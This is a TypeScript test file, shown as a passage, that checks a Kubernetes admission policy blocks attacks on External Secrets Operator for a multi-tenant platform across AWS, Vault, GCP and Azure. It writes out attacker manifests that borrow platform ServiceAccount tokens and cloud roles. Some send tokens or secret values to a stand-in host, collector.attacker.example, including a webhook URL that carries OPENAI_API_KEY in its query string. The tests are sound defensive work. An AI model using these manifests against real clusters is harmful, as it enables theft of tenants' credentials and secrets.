import { Testing } from 'cdk8s';
import { NoxusPlatformSecrets, RemoteKeyLayout, SecretBackend, SecretsContract, SourceSecret, ValueSource, WorkloadIdentity, NoxusApp } from '../../lib';
import { admitAll, Operation, Verdict } from '../support/admission';
import { platform } from '../support/fixtures';

// Issue 27, the attacker's side: each attack is written as the object(s) a user would apply, and run through
// the chart's own ValidatingAdmissionPolicy with real CEL and the API server's match (test/support/admission.ts).
// Each title names the path and where ESO acts on it (external-secrets/external-secrets, file: function).
// An attack is stopped when the object that makes ESO act is denied; a request the policy does not match is
// admitted unseen, so `notMatched` fails a test as surely as `allowed: true`.

const NS = 'noxus';
const ACCOUNT = '123456789012';
const SA = { platform: 'noxus-eso-platform', default: 'noxus-eso-pool-default', acme: 'noxus-eso-pool-tenant-acme' };
const ROLE = (name: string) => `arn:aws:iam::${ACCOUNT}:role/${name}`;
const ACME_ROLE = ROLE(SA.acme);
const VAULT_ROLE = SA.acme;
const VAULT = 'https://vault.example.com:8200';
const EVIL = 'https://collector.attacker.example';
const ESO = 'external-secrets.io/v1';
const GEN = 'generators.external-secrets.io/v1alpha1';

interface Pair {
  readonly id: string;
  readonly backend: () => SecretBackend;
  readonly identity: () => WorkloadIdentity;
  /** Pool tenant-acme's and the platform's remote keys, as the chart names them. */
  readonly acmeKey: string;
  readonly platformKey: string;
  readonly sourceKey: string;
  readonly aws: boolean;
  /** The kind of cloud role each platform store has (none: the store is its ServiceAccount alone). */
  readonly roles?: 'aws' | 'vault';
  /** Whether the chart renders a ServiceAccount per store (EKS Pod Identity has none: ESO uses its own and a role per store). */
  readonly serviceAccounts: boolean;
}

const AZURE_IDS = {
  platform: '11111111-1111-1111-1111-111111111111',
  'pool-default': '22222222-2222-2222-2222-222222222222',
  'pool-tenant-acme': '33333333-3333-3333-3333-333333333333',
};
const PAIRS: Pair[] = [
  {
    id: 'AWS Secrets Manager + IRSA', backend: () => SecretBackend.awsSecretsManager({ region: 'eu-west-1' }), identity: () => WorkloadIdentity.irsa({ accountId: ACCOUNT }),
    acmeKey: 'noxus/pools/tenant-acme/OPENAI_API_KEY', platformKey: 'noxus/platform/POSTGRESQL_URL',
    sourceKey: `arn:aws:secretsmanager:eu-west-1:${ACCOUNT}:secret:rds!db-0123-AbCdEf`, aws: true, roles: 'aws', serviceAccounts: true,
  },
  {
    id: 'AWS Secrets Manager + EKS Pod Identity', backend: () => SecretBackend.awsSecretsManager({ region: 'eu-west-1' }), identity: () => WorkloadIdentity.eksPodIdentity({ accountId: ACCOUNT }),
    acmeKey: 'noxus/pools/tenant-acme/OPENAI_API_KEY', platformKey: 'noxus/platform/POSTGRESQL_URL',
    sourceKey: `arn:aws:secretsmanager:eu-west-1:${ACCOUNT}:secret:rds!db-0123-AbCdEf`, aws: true, roles: 'aws', serviceAccounts: false,
  },
  {
    id: 'Vault + WorkloadIdentity.vaultKubernetes()', backend: () => SecretBackend.vault({ server: VAULT }), identity: () => WorkloadIdentity.vaultKubernetes(),
    acmeKey: 'noxus/pools/tenant-acme/OPENAI_API_KEY', platformKey: 'noxus/platform/POSTGRESQL_URL', sourceKey: 'database/rds-master', aws: false, roles: 'vault', serviceAccounts: true,
  },
  {
    id: 'GCP Secret Manager + gkeWorkloadIdentity', backend: () => SecretBackend.gcpSecretManager({ projectId: 'noxus-prod' }), identity: () => WorkloadIdentity.gkeWorkloadIdentity({ projectId: 'noxus-prod' }),
    acmeKey: 'noxus-pools-tenant-acme-OPENAI_API_KEY', platformKey: 'noxus-platform-POSTGRESQL_URL', sourceKey: 'rds-master', aws: false, serviceAccounts: true,
  },
  {
    id: 'Azure Key Vault + azureWorkloadIdentity', backend: () => SecretBackend.azureKeyVault({ vaultUrl: 'https://noxus-prod.vault.azure.net/' }),
    identity: () => WorkloadIdentity.azureWorkloadIdentity({ tenantId: '00000000-0000-0000-0000-000000000000', clientIds: AZURE_IDS }),
    acmeKey: 'noxus-pools-tenant-acme-OPENAI-API-KEY', platformKey: 'noxus-platform-POSTGRESQL-URL', sourceKey: 'rds-master', aws: false, serviceAccounts: true,
  },
];

/** The library's default chart for a pair: the fixture's platform, a generated value and a composed one (so its companion Secrets and templateFrom are rendered). */
function chartOf(pair: Pair): any[] {
  const values = {
    PLUGIN_SERVER_API_KEY: ValueSource.generated(),
    POSTGRESQL_URL: ValueSource.postgresUrl({ source: new SourceSecret({ key: pair.sourceKey, keys: ['username', 'password'], label: 'db master user' }), host: 'db.noxus.internal', database: 'noxus' }),
  };
  const contract = new SecretsContract({ blueprint: platform(), backend: pair.backend(), identity: pair.identity(), namespace: NS, values });
  return Testing.synth(new NoxusPlatformSecrets(new NoxusApp(), 'secrets', { contract }));
}
const charts = new Map<string, any[]>();
const manifestsOf = (pair: Pair) => charts.get(pair.id) ?? (charts.set(pair.id, chartOf(pair)), charts.get(pair.id)!);

type Step = { object: any; namespace: string; operation?: Operation; oldObject?: any };
const verdictOf = (m: any[], s: Step): Verdict => admitAll(m, s.object, s.namespace, s.operation ?? 'CREATE', s.oldObject);
const DENIED = { allowed: false, message: expect.any(String) };

/** The one object of an attack is matched and denied. */
function expectDenied(m: any[], object: any, namespace: string, operation: Operation = 'CREATE', oldObject?: any) {
  expect(verdictOf(m, { object, namespace, operation, oldObject })).toEqual(DENIED);
}
/** A multi-object attack: the objects that make ESO act (`mustDeny`) are each matched and denied. */
function expectAttackStopped(m: any[], steps: (Step & { mustDeny: boolean })[]) {
  const got = steps.map(s => ({ kind: s.object.kind, name: s.object.metadata.name, verdict: verdictOf(m, s) }));
  expect(got.filter((_, i) => steps[i].mustDeny)).toEqual(got.filter((_, i) => steps[i].mustDeny).map(g => ({ ...g, verdict: DENIED })));
}
function expectAdmitted(m: any[], object: any, namespace: string, operation: Operation = 'CREATE', oldObject?: any) {
  expect([object.kind, object.metadata.name, verdictOf(m, { object, namespace, operation, oldObject })]).toEqual([object.kind, object.metadata.name, { allowed: true }]);
}

const store = (kind: 'SecretStore' | 'ClusterSecretStore', provider: object, name = 'borrow') => ({ apiVersion: ESO, kind, metadata: { name }, spec: { provider } });
const nsOf = (kind: string) => (kind.startsWith('Cluster') ? '' : 'attacker');
const es = (name: string, spec: object) => ({ apiVersion: ESO, kind: 'ExternalSecret', metadata: { name }, spec });
const read = (key: string, storeRef: object = { name: 'broad', kind: 'ClusterSecretStore' }) => es('loot', { secretStoreRef: storeRef, target: { name: 'loot' }, data: [{ secretKey: 'V', remoteRef: { key } }] });
const KINDS = ['SecretStore', 'ClusterSecretStore'] as const;

// Every path on which a store names a Kubernetes ServiceAccount whose token ESO mints (TokenRequest) and sends
// to the server the store names: a platform ServiceAccount borrowed this way is its identity, whatever the
// backend, since the server may be the attacker's (the token is then replayed at the real STS, Vault or Azure AD
// with the audience the attacker asked for).
type SaRef = { name: string; namespace?: string; audiences?: string[] };
const SA_PATHS: [string, (ref: SaRef) => object][] = [
  ['Vault kubernetes auth serviceAccountRef (vault/auth_kubernetes.go: getJwtString -> auth.go: createServiceAccountToken)',
    ref => ({ vault: { server: EVIL, path: 'secret', version: 'v2', auth: { kubernetes: { mountPath: 'kubernetes', role: 'their-role', serviceAccountRef: ref } } } })],
  ['Vault jwt auth with kubernetesServiceAccountToken (vault/auth_jwt.go: requestTokenWithJwtAuth)',
    ref => ({ vault: { server: EVIL, path: 'secret', version: 'v2', auth: { jwt: { path: 'jwt', role: 'their-role', kubernetesServiceAccountToken: { serviceAccountRef: ref, audiences: ['vault'] } } } } })],
  ['Vault iam auth with jwt.serviceAccountRef (vault/iamauth/iamauth.go: CredsFromServiceAccount)',
    ref => ({ vault: { server: EVIL, auth: { iam: { path: 'aws', region: 'eu-west-1', vaultRole: 'their-role', jwt: { serviceAccountRef: ref } } } } })],
  ['Vault gcp auth with workloadIdentity.serviceAccountRef (vault/auth_gcp.go: setupWorkloadIdentityAuth)',
    ref => ({ vault: { server: EVIL, auth: { gcp: { path: 'gcp', role: 'their-role', workloadIdentity: { serviceAccountRef: ref, clusterLocation: 'europe-west1', clusterName: 'noxus', clusterProjectID: 'noxus-prod' } } } } })],
  ['AWS auth.jwt.serviceAccountRef (aws/auth/auth.go: credsFromServiceAccount)',
    ref => ({ aws: { service: 'SecretsManager', region: 'eu-west-1', auth: { jwt: { serviceAccountRef: ref } } } })],
  ['GCP auth.workloadIdentity.serviceAccountRef (gcp/secretmanager/workload_identity.go: TokenSource -> k8sSATokenGenerator.Generate)',
    ref => ({ gcpsm: { projectID: 'their-project', auth: { workloadIdentity: { serviceAccountRef: ref, clusterLocation: 'europe-west1', clusterName: 'noxus', clusterProjectID: 'noxus-prod' } } } })],
  ['GCP auth.workloadIdentityFederation.serviceAccountRef (gcp/secretmanager/workload_identity_federation.go: updateExternalAccountConfigWithSubjectTokenSupplier)',
    ref => ({ gcpsm: { projectID: 'their-project', auth: { workloadIdentityFederation: { serviceAccountRef: ref, audience: '//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/x' } } } })],
  ['Azure Key Vault authType WorkloadIdentity serviceAccountRef (azure/keyvault/keyvault.go: authorizerForWorkloadIdentity)',
    ref => ({ azurekv: { vaultUrl: 'https://theirs.vault.azure.net/', authType: 'WorkloadIdentity', tenantId: '00000000-0000-0000-0000-000000000000', serviceAccountRef: ref } })],
  ['Kubernetes provider auth.serviceAccount (runtime/esutils/k8s_rest_config.go: serviceAccountToken)',
    ref => ({ kubernetes: { server: { url: EVIL }, remoteNamespace: 'default', auth: { serviceAccount: ref } } })],
  ['Conjur jwt.serviceAccountRef (conjur/auth_jwt.go: getJwtFromServiceAccountTokenRequest)',
    ref => ({ conjur: { url: EVIL, auth: { jwt: { account: 'a', serviceID: 's', serviceAccountRef: ref } } } })],
  ['Akeyless kubernetesAuth.serviceAccountRef (akeyless/akeyless_api.go: getJWTfromServiceAccountToken)',
    ref => ({ akeyless: { akeylessGWApiURL: EVIL, authSecretRef: { kubernetesAuth: { accessID: 'p-x', k8sConfName: 'c', serviceAccountRef: ref } } } })],
];

// Every path on which a ClusterSecretStore names a Secret (SecretKeySelector.namespace) whose value ESO reads with
// its own client and sends to the server the store names (runtime/esutils/resolvers/secret_ref.go: SecretKeyRef:
// a ClusterSecretStore's namespace is honoured; a SecretStore's is not).
const SECRET_PATHS: [string, (ref: object) => object][] = [
  ['Vault tokenSecretRef (vault/auth_token.go: setSecretKeyToken)', ref => ({ vault: { server: EVIL, auth: { tokenSecretRef: ref } } })],
  ['Vault kubernetes auth secretRef (vault/auth_kubernetes.go: getJwtString, SecretRef branch)', ref => ({ vault: { server: EVIL, auth: { kubernetes: { mountPath: 'kubernetes', role: 'r', secretRef: ref } } } })],
  ['Vault appRole secretRef (vault/auth_approle.go: requestTokenWithAppRoleRef)', ref => ({ vault: { server: EVIL, auth: { appRole: { path: 'approle', roleId: 'x', secretRef: ref } } } })],
  ['AWS auth.secretRef.accessKeyIDSecretRef (aws/auth/auth.go: credsFromSecretRef)',
    ref => ({ aws: { service: 'SecretsManager', region: 'eu-west-1', auth: { secretRef: { accessKeyIDSecretRef: ref, secretAccessKeySecretRef: ref } } } })],
  ['Kubernetes provider auth.token.bearerToken (runtime/esutils/k8s_rest_config.go: applyInlineAuth)', ref => ({ kubernetes: { server: { url: EVIL }, auth: { token: { bearerToken: ref } } } })],
  ['Webhook provider secrets[].secretRef (webhook/webhook.go: NewClient, rendered into the request to its url)', ref => ({ webhook: { url: `${EVIL}/{{ .remoteRef.key }}?v={{ .loot.OPENAI_API_KEY }}`, secrets: [{ name: 'loot', secretRef: ref }] } })],
];

// The platform's AWS role named in other spellings: IAM names a role once per account whatever its case and path.
const ROLE_SPELLINGS: [string, string][] = [
  ['exact', ACME_ROLE],
  ['upper-case role name', ROLE(SA.acme.toUpperCase())],
  ['an added IAM path', ROLE(`x/${SA.acme}`)],
  ['a trailing space', `${ACME_ROLE} `],
];

for (const pair of PAIRS) {
  describe(pair.id, () => {
    const m = () => manifestsOf(pair);

    describe('outside the platform\'s namespace', () => {
      describe.each(KINDS)('%s', kind => {
        test.each(SA_PATHS)(`%s naming a platform ServiceAccount (namespace ${NS})`, (_title, provider) => {
          for (const name of [SA.acme, SA.platform]) expectDenied(m(), store(kind, provider({ name, namespace: NS })), nsOf(kind));
        });
        test.each(SA_PATHS)(`%s naming a platform ServiceAccount with the audience the attacker replays it at`, (_title, provider) => {
          expectDenied(m(), store(kind, provider({ name: SA.acme, namespace: NS, audiences: ['sts.amazonaws.com', 'vault', 'api://AzureADTokenExchange'] })), nsOf(kind));
        });

        if (pair.roles === 'aws') {
          test.each(ROLE_SPELLINGS)('AWS role (aws/auth/auth.go: createConfiguration, AssumeRole of prov.Role) naming a platform role: %s', (_s, arn) => {
            expectDenied(m(), store(kind, { aws: { service: 'SecretsManager', region: 'eu-west-1', role: arn } }), nsOf(kind));
          });
          test.each(ROLE_SPELLINGS)('AWS additionalRoles (aws/auth/auth.go: createConfiguration, the chain before prov.Role) naming a platform role: %s', (_s, arn) => {
            expectDenied(m(), store(kind, { aws: { service: 'ParameterStore', region: 'eu-west-1', additionalRoles: [ROLE('their-own'), arn] } }), nsOf(kind));
          });
          test.each(ROLE_SPELLINGS)('Vault iam auth role, the AWS role assumed before the login (vault/auth_iam.go: requestTokenWithIamAuth, AWSIAMRole): %s', (_s, arn) => {
            expectDenied(m(), store(kind, { vault: { server: VAULT, auth: { iam: { region: 'eu-west-1', role: arn, vaultRole: 'their-role' } } } }), nsOf(kind));
          });
        }

        if (pair.roles === 'vault') {
          const vaultRoles: [string, (role: string) => object][] = [
            ['Vault kubernetes auth role (vault/auth_kubernetes.go: requestTokenWithKubernetesAuth)', role => ({ kubernetes: { mountPath: 'kubernetes', role, serviceAccountRef: { name: 'their-sa' } } })],
            ['Vault jwt auth role (vault/auth_jwt.go: requestTokenWithJwtAuth, posts {role, jwt} to auth/<path>/login)', role => ({ jwt: { path: 'kubernetes', role, kubernetesServiceAccountToken: { serviceAccountRef: { name: 'their-sa' } } } })],
            ['Vault jwt auth role with a secretRef JWT (vault/auth_jwt.go: requestTokenWithJwtAuth)', role => ({ jwt: { path: 'jwt', role, secretRef: { name: 'their-jwt', key: 'token' } } })],
            ['Vault iam auth vaultRole (vault/auth_iam.go: requestTokenWithIamAuth, authaws.WithRole)', role => ({ iam: { path: 'aws', region: 'eu-west-1', vaultRole: role } })],
            ['Vault gcp auth role (vault/auth_gcp.go: requestTokenWithGcpAuth)', role => ({ gcp: { path: 'gcp', role } })],
            ['Vault cert auth vaultRole (vault/auth_cert.go: requestTokenWithCertAuth)', role => ({ cert: { path: 'cert', vaultRole: role, clientCert: { name: 'their-cert', key: 'tls.crt' }, secretRef: { name: 'their-cert', key: 'tls.key' } } })],
          ];
          test.each(vaultRoles)('%s naming a platform Vault role', (_t, auth) => {
            expectDenied(m(), store(kind, { vault: { server: VAULT, path: 'secret', version: 'v2', auth: auth(VAULT_ROLE) } }), nsOf(kind));
          });
          test.each(vaultRoles)('%s naming a platform Vault role in upper case (Vault role names are stored lower-cased)', (_t, auth) => {
            expectDenied(m(), store(kind, { vault: { server: VAULT, path: 'secret', version: 'v2', auth: auth(VAULT_ROLE.toUpperCase()) } }), nsOf(kind));
          });
          test('Vault jwt auth role with surrounding spaces (vault/auth_jwt.go: requestTokenWithJwtAuth trims the role: strings.TrimSpace)', () => {
            expectDenied(m(), store(kind, { vault: { server: VAULT, auth: { jwt: { path: 'kubernetes', role: ` ${VAULT_ROLE} `, kubernetesServiceAccountToken: { serviceAccountRef: { name: 'their-sa' } } } } } }), nsOf(kind));
          });
        }
      });

      if (pair.roles === 'vault') {
        test('ClusterSecretStore: the issue\'s exact Vault jwt store (vault/auth_jwt.go: requestTokenWithJwtAuth; auth.go: createServiceAccountToken honours serviceAccountRef.namespace for a ClusterSecretStore)', () => {
          const issue = store('ClusterSecretStore', {
            vault: {
              server: VAULT, path: 'secret', version: 'v2',
              auth: { jwt: { path: 'kubernetes', role: 'noxus-eso-pool-tenant-acme', kubernetesServiceAccountToken: { serviceAccountRef: { name: 'noxus-eso-pool-tenant-acme', namespace: 'noxus' }, audiences: [] } } },
            },
          }, 'vault-borrow');
          expectAttackStopped(m(), [
            { object: issue, namespace: '', mustDeny: true },
            { object: read('secret/data/noxus/pools/tenant-acme/OPENAI_API_KEY', { name: 'vault-borrow', kind: 'ClusterSecretStore' }), namespace: 'attacker', mustDeny: true },
          ]);
        });
      }

      if (pair.serviceAccounts) {
        test('ClusterSecretStore with referent auth: a platform ServiceAccount named without a namespace is resolved in the ExternalSecret\'s namespace, so any ExternalSecret in noxus (or a ClusterExternalSecret that lands there) borrows it (aws/auth/auth.go: credsFromServiceAccount, namespace = opts.Namespace; vault/auth.go: createServiceAccountToken)', () => {
          for (const [, provider] of SA_PATHS) expectDenied(m(), store('ClusterSecretStore', provider({ name: SA.acme })), '');
        });
      }

      test.each(SECRET_PATHS)('ClusterSecretStore %s naming a Secret of the platform\'s namespace (its value goes to the store\'s server)', (_t, provider) => {
        for (const name of ['app-env-tenant-acme', 'app-env', 'app-env-plugin-server-api-key']) {
          expectDenied(m(), store('ClusterSecretStore', provider({ name, namespace: NS, key: 'OPENAI_API_KEY' })), '');
        }
      });

      if (pair.id.startsWith('Azure')) {
        test.each(KINDS)('%s with authType ManagedIdentity and identityId naming a platform store\'s client ID (azure/keyvault/keyvault_new_sdk.go: buildManagedIdentityCredential; keyvault.go: authorizerForManagedIdentity)', kind => {
          for (const id of [AZURE_IDS['pool-tenant-acme'], AZURE_IDS['pool-tenant-acme'].toUpperCase()]) {
            expectDenied(m(), store(kind, { azurekv: { vaultUrl: 'https://noxus-prod.vault.azure.net/', authType: 'ManagedIdentity', identityId: id } }), nsOf(kind));
          }
        });
      }
      if (pair.id.startsWith('GCP')) {
        test.each(KINDS)('%s with workloadIdentityFederation.gcpServiceAccountEmail impersonating a platform store\'s GSA (gcp/secretmanager/workload_identity_federation.go: ServiceAccountImpersonationURL from GCPServiceAccountEmail)', kind => {
          const gsa = m().find(x => x.kind === 'ServiceAccount' && x.metadata.name === SA.acme).metadata.annotations['iam.gke.io/gcp-service-account'];
          for (const email of [gsa, gsa.toUpperCase()]) {
            expectDenied(m(), store(kind, { gcpsm: { projectID: 'noxus-prod', auth: { workloadIdentityFederation: { serviceAccountRef: { name: 'their-sa' }, audience: 'x', gcpServiceAccountEmail: email } } } }), nsOf(kind));
          }
        });
      }
      test('GCP workloadIdentityFederation credConfig from a ConfigMap of the platform\'s namespace (gcp/secretmanager/workload_identity_federation.go: readCredConfig honours credConfig.namespace for a ClusterSecretStore)', () => {
        expectDenied(m(), store('ClusterSecretStore', { gcpsm: { projectID: 'p', auth: { workloadIdentityFederation: { credConfig: { name: 'x', namespace: NS, key: 'c' } } } } }), '');
      });

      // Generators resolve references in the ExternalSecret's namespace (vault/provider.go: NewGeneratorClient passes
      // resolvers.EmptyStoreKind), so a ClusterGenerator is a platform identity as soon as an ExternalSecret in noxus reads it.
      if (pair.serviceAccounts) {
        test('ClusterGenerator VaultDynamicSecret with an embedded Vault provider logging in as a platform role and ServiceAccount (runtime/esutils/resolvers/generator.go: clusterGeneratorToVirtual; generators/v1/vault/vault.go: generate)', () => {
          const cg = {
            apiVersion: GEN, kind: 'ClusterGenerator', metadata: { name: 'borrow' },
            spec: { kind: 'VaultDynamicSecret', generator: { vaultDynamicSecretSpec: { path: 'secret/data/noxus/pools/tenant-acme/OPENAI_API_KEY', method: 'GET', provider: { server: VAULT, auth: { kubernetes: { mountPath: 'kubernetes', role: VAULT_ROLE, serviceAccountRef: { name: SA.acme } } } } } } },
          };
          expectDenied(m(), cg, '');
        });
      }
      if (pair.roles === 'aws') {
        test.each(ROLE_SPELLINGS)('ClusterGenerator ECRAuthorizationToken / STSSessionToken assuming a platform role (aws/auth/auth.go: NewGeneratorSession): %s', (_s, arn) => {
          for (const [kind, field] of [['ECRAuthorizationToken', 'ecrAuthorizationTokenSpec'], ['STSSessionToken', 'stsSessionTokenSpec']]) {
            expectDenied(m(), { apiVersion: GEN, kind: 'ClusterGenerator', metadata: { name: 'borrow' }, spec: { kind, generator: { [field]: { region: 'eu-west-1', role: arn } } } }, '');
          }
        });
      }
      if (pair.serviceAccounts) {
        test('ClusterGenerator GCRAccessToken / ACRAccessToken / ECRAuthorizationToken naming a platform ServiceAccount (generators/v1/gcr, acr, ecr: Generate)', () => {
          const specs: [string, string, object][] = [
            ['GCRAccessToken', 'gcrAccessTokenSpec', { projectID: 'p', auth: { workloadIdentity: { serviceAccountRef: { name: SA.acme }, clusterLocation: 'europe-west1', clusterName: 'noxus' } } }],
            ['ACRAccessToken', 'acrAccessTokenSpec', { registry: 'r.azurecr.io', auth: { workloadIdentity: { serviceAccountRef: { name: SA.acme } } } }],
            ['ECRAuthorizationToken', 'ecrAuthorizationTokenSpec', { region: 'eu-west-1', auth: { jwt: { serviceAccountRef: { name: SA.acme } } } }],
          ];
          for (const [kind, field, spec] of specs) expectDenied(m(), { apiVersion: GEN, kind: 'ClusterGenerator', metadata: { name: 'borrow' }, spec: { kind, generator: { [field]: spec } } }, '');
        });
      }
      if (pair.roles === 'vault') {
        test('VaultDynamicSecret in another namespace logging in to a platform Vault role (generators/v1/vault/vault.go: generate -> vault/provider.go: NewGeneratorClient)', () => {
          expectDenied(m(), {
            apiVersion: GEN, kind: 'VaultDynamicSecret', metadata: { name: 'borrow' },
            spec: { path: 'secret/data/noxus/platform/POSTGRESQL_URL', method: 'GET', provider: { server: VAULT, auth: { jwt: { path: 'kubernetes', role: VAULT_ROLE, kubernetesServiceAccountToken: { serviceAccountRef: { name: 'their-sa' } } } } } },
          }, 'attacker');
        });
      }
      if (pair.roles === 'aws') {
        test.each(ROLE_SPELLINGS)('STSSessionToken / ECRAuthorizationToken in another namespace assuming a platform role (aws/auth/auth.go: NewGeneratorSession): %s', (_s, arn) => {
          expectDenied(m(), { apiVersion: GEN, kind: 'STSSessionToken', metadata: { name: 'borrow' }, spec: { region: 'eu-west-1', role: arn } }, 'attacker');
          expectDenied(m(), { apiVersion: GEN, kind: 'ECRAuthorizationToken', metadata: { name: 'borrow' }, spec: { region: 'eu-west-1', role: arn } }, 'attacker');
        });
      }

      // Remote keys, in every spelling the providers accept.
      const keySpellings: [string, string][] = [
        ['as the chart writes it', pair.acmeKey],
        ['the platform\'s own', pair.platformKey],
        ...(pair.aws ? [
          ['a Secrets Manager ARN (secretsmanager.go: GetSecretValue takes an ARN as SecretId)', `arn:aws:secretsmanager:eu-west-1:${ACCOUNT}:secret:${pair.acmeKey}`],
          ['a Secrets Manager ARN with its random suffix', `arn:aws:secretsmanager:eu-west-1:${ACCOUNT}:secret:${pair.acmeKey}-AbCdEf`],
          ['an SSM parameter ARN (parameterstore.go: GetParameter takes an ARN as Name)', `arn:aws:ssm:eu-west-1:${ACCOUNT}:parameter/${pair.acmeKey}`],
          ['a parameter name with a leading slash', `/${pair.acmeKey}`],
        ] as [string, string][] : []),
        ...(pair.id.startsWith('Vault') ? [
          ['with the KV v2 mount and data/ (vault/client_get.go: buildPath cuts "<mount>/" then "data/")', `secret/data/${pair.acmeKey}`],
          ['with the mount (vault/client_get.go: buildPath)', `secret/${pair.acmeKey}`],
          ['with the metadata path', `secret/metadata/${pair.acmeKey}`],
        ] as [string, string][] : []),
        ...(pair.id.startsWith('Azure') ? [
          ['with the object type (azure/keyvault/keyvault.go: getObjType splits "secret/<name>")', `secret/${pair.acmeKey}`],
          ['in upper case (Key Vault object names are case-insensitive)', pair.acmeKey.toUpperCase()],
          ['in upper case with the object type', `secret/${pair.acmeKey.toUpperCase()}`],
        ] as [string, string][] : []),
      ];
      test.each(keySpellings)('ExternalSecret data[].remoteRef.key reading a platform key: %s (externalsecret_controller.go: getProviderSecretData)', (_s, key) => {
        expectDenied(m(), read(key), 'attacker');
        expectDenied(m(), read(key, { name: 'mine', kind: 'SecretStore' }), 'attacker');
      });
      test.each(keySpellings)('ExternalSecret dataFrom[].extract reading a platform key: %s (externalsecret_controller.go: handleExtractSecrets)', (_s, key) => {
        expectDenied(m(), es('loot', { secretStoreRef: { name: 'broad', kind: 'ClusterSecretStore' }, dataFrom: [{ extract: { key } }] }), 'attacker');
      });
      test('ExternalSecret dataFrom[].find by path and by name regexp over the platform\'s keys (externalsecret_controller.go: handleFindAllSecrets -> GetAllSecrets)', () => {
        const prefix = pair.acmeKey.slice(0, pair.acmeKey.indexOf('tenant-acme'));
        // Without a path, find lists every key the store's identity may list and filters them by the regexp (GetAllSecrets).
        const finds: object[] = [{ path: prefix }, { path: prefix.slice(0, 3) }, { name: { regexp: `^${prefix}` } }, { path: prefix, name: { regexp: '.*' } }];
        // Vault lists under the mount too (vault/client_get_all_secrets.go: listSecrets -> buildMetadataPath).
        if (pair.roles === 'vault') finds.push({ path: 'secret/data/noxus' }, { path: 'secret/noxus' });
        for (const find of finds) expect([find, verdictOf(m(), { object: es('loot', { secretStoreRef: { name: 'broad', kind: 'ClusterSecretStore' }, dataFrom: [{ find }] }), namespace: 'attacker' })]).toEqual([find, DENIED]);
      });
      if (pair.aws) {
        test('AWS store prefix that turns an innocent key into a platform key (aws/provider.go: newClient passes Prefix to secretsmanager.New / parameterstore.New)', () => {
          const [head, ...tail] = pair.acmeKey.split('/');
          expectAttackStopped(m(), [
            { object: store('ClusterSecretStore', { aws: { service: 'SecretsManager', region: 'eu-west-1', prefix: `${head}/` } }, 'prefixed'), namespace: '', mustDeny: true },
            { object: read(tail.join('/'), { name: 'prefixed', kind: 'ClusterSecretStore' }), namespace: 'attacker', mustDeny: false },
          ]);
          expectDenied(m(), store('SecretStore', { aws: { service: 'SecretsManager', region: 'eu-west-1', prefix: 'nox' } }), 'attacker');
        });
      }

      test('ClusterExternalSecret into the platform\'s namespace writing a pool\'s env Secret through another pool\'s store (clusterexternalsecret_controller.go: Reconcile creates the ExternalSecret in each of spec.namespaces)', () => {
        const externalSecretSpec = { secretStoreRef: { name: 'noxus-pool-default', kind: 'SecretStore' }, target: { name: 'app-env-tenant-acme' }, data: [{ secretKey: 'OPENAI_API_KEY', remoteRef: { key: 'noxus/workers/OPENAI_API_KEY' } }] };
        expectAttackStopped(m(), [
          { object: { apiVersion: ESO, kind: 'ClusterExternalSecret', metadata: { name: 'spray' }, spec: { namespaces: [NS], externalSecretSpec } }, namespace: '', mustDeny: true },
          { object: { apiVersion: ESO, kind: 'ClusterExternalSecret', metadata: { name: 'spray' }, spec: { namespaceSelectors: [{ matchLabels: { 'kubernetes.io/metadata.name': NS } }], externalSecretSpec } }, namespace: '', mustDeny: true },
          // The ExternalSecret the controller would create in noxus is guarded on its own, too.
          { object: es('spray', externalSecretSpec), namespace: NS, mustDeny: true },
        ]);
      });
      test('ClusterExternalSecret reading a platform key into other namespaces (clusterexternalsecret_controller.go: Reconcile)', () => {
        const externalSecretSpec = { secretStoreRef: { name: 'broad', kind: 'ClusterSecretStore' }, target: { name: 'loot' }, data: [{ secretKey: 'V', remoteRef: { key: pair.acmeKey } }] };
        expectDenied(m(), { apiVersion: ESO, kind: 'ClusterExternalSecret', metadata: { name: 'spray' }, spec: { namespaces: ['attacker'], externalSecretSpec } }, '');
      });
    });

    describe(`inside the platform's namespace ${NS}`, () => {
      const own = (name: string) => m().find(x => x.kind === 'SecretStore' && x.metadata.name === name);
      const esOf = (name: string) => m().find(x => x.kind === 'ExternalSecret' && x.metadata.name === name);
      const withTemplateFrom = (base: any, templateFrom: object[]) => ({ ...base, spec: { ...base.spec, target: { ...base.spec.target, template: { ...base.spec.target.template, templateFrom: [...(base.spec.target.template?.templateFrom ?? []), ...templateFrom] } } } });

      test('the shared env Secret\'s ExternalSecret reading another env Secret through templateFrom[].secret (templating/parser.go: MergeSecret reads any Secret of the namespace with the controller\'s client)', () => {
        const stolen = withTemplateFrom(esOf('app-env'), [{ target: 'Data', secret: { name: 'app-env-tenant-acme', items: [{ key: 'OPENAI_API_KEY', templateAs: 'Values' }] } }]);
        expectDenied(m(), stolen, NS);
        expectDenied(m(), stolen, NS, 'UPDATE', esOf('app-env'));
      });
      test('pool default\'s ExternalSecret reading pool tenant-acme\'s env Secret through templateFrom[].secret (templating/parser.go: MergeSecret)', () => {
        expectDenied(m(), withTemplateFrom(esOf('app-env-default'), [{ target: 'Data', secret: { name: 'app-env-tenant-acme', items: [{ key: 'OPENAI_API_KEY' }] } }]), NS, 'UPDATE', esOf('app-env-default'));
      });
      test('an env Secret\'s ExternalSecret with templateFrom[].configMap (templating/parser.go: MergeConfigMap)', () => {
        expectDenied(m(), withTemplateFrom(esOf('app-env-default'), [{ target: 'Data', configMap: { name: 'whatever', items: [{ key: 'OPENAI_API_KEY' }] } }]), NS, 'UPDATE', esOf('app-env-default'));
      });
      test('an ExternalSecret writing any other Secret with templateFrom of an env Secret or a generated-value Secret (templating/parser.go: MergeSecret)', () => {
        for (const source of ['app-env-tenant-acme', 'app-env', 'app-env-default', 'app-env-plugin-server-api-key']) {
          const loot = es('loot', { secretStoreRef: { name: 'noxus-pool-default', kind: 'SecretStore' }, target: { name: 'loot', template: { engineVersion: 'v2', templateFrom: [{ target: 'Data', secret: { name: source, items: [{ key: 'OPENAI_API_KEY' }] } }] } }, data: [] });
          expect([source, verdictOf(m(), { object: loot, namespace: NS })]).toEqual([source, DENIED]);
        }
      });

      const steal = {
        apiVersion: GEN, kind: 'VaultDynamicSecret', metadata: { name: 'steal' },
        spec: { path: `secret/data/${pair.acmeKey}`, method: 'GET', provider: { server: VAULT, auth: { kubernetes: { mountPath: 'kubernetes', role: VAULT_ROLE, serviceAccountRef: { name: SA.acme, audiences: ['vault'] } } } } },
      };
      test('a VaultDynamicSecret with a full provider block logging in as another pool\'s role and ServiceAccount (generators/v1/vault/vault.go: generate)', () => {
